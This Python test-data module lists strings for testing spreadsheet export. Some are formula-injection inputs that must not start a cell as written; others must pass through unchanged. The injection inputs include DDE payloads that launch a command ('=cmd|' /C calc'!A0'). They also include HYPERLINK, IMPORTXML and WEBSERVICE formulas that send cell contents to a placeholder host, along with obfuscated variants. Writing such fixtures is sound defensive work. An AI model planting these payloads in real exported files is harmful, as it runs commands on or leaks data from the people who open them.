"""Texts that spreadsheets are known to run, reinterpret or choke on."""

from __future__ import annotations

_PAYLOADS = (
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://example.org?x="&A1,"click")', "=2+5+cmd|' /C calc'!A0",
    "+1+1", "+cmd|' /C calc'!A0", "+353 20 911 3922", "-1+1", "-2+3+cmd|' /C calc'!A0", "-10 % on tea",
    "@SUM(1+1)*cmd|' /C calc'!A0", "@home", "--02-29", "=", "+", "-", "@",
    '=IMPORTXML(CONCAT("http://example.org/?",A1),"//a")', '=WEBSERVICE("http://example.org")', "=DDE(1;2;3)",
    "=A1:Z9", "={1,2}", "=\n1", "=\t1", "==1", "-=1", "+-1", "=ＲＥＮＤ()",
)  # fmt: skip
_BEFORE = ("\t", "\r", "\n", "\0", " ", "\u00a0", "\ufeff", "\u200b", "\u3000", "\r\n")
_WIDE = ("＝1+1", "＋1", "－1", "＠SUM(1)", "﹦1", "﹢1", "﹣1", "﹫x", "⁼1")

FORMULAS = (*_PAYLOADS, *(f"{before}=1+1" for before in _BEFORE), *_WIDE, "\tTab", "\rCR", "\0NUL", "\nLF", " -1")
"""What no cell may begin with as it stands."""

ODD = (
    "", "'", "''", "'''", "'quoted", "''quoted", "'=1", "''=1", "'\t", "' =1", "’t Hooft", "␀", "␀0",
    "␀␀0", "a\0b", "0\0␀0",
    "a;b", "a,b", 'say "hi"', '"', "two\nlines", "two\r\nlines", "a\rb", "阳光咖啡", "متجر", "🎩", "0012", "1e5",
    "TRUE",
    "2026-01-02", "1,5", "ID", "sep=,", "x" * 300, " kept blanks ", "a\u2028b", "_x0041_",
    "a\x0bb", "=" * 3, "\u202e=1",
)  # fmt: skip
"""What must come back exactly all the same."""
